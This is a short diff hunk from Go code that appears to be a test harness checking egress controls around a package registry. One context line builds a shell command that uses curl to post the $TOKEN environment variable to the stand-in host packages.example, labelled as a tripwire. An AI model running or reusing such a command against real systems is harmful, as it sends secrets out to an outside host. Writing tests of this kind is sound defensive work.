@@ -154,7 +154,8 @@ func (d *demo) network(ctx context.Context, w *world.World) error {
 		}
 	}
 	d.expect(logins >= 3, "the registry gave out %d things, each for the token", logins)
-	if err := d.seek(ctx, w, uses, hosts("packages.example")); err != nil {
+	keep := append([]string{"--egress-secret", use + " keep"}, hosts()...) // the program writes down what it has
+	if err := d.seek(ctx, w, keep, hosts("packages.example")); err != nil {
 		return err
 	}
 	r = d.call(ctx, "tripwire", "failed", append(slices.Clone(uses), "sh", "-c", `curl -sS -d "$TOKEN" https://packages.example/sum; tail -f /dev/null`)...)
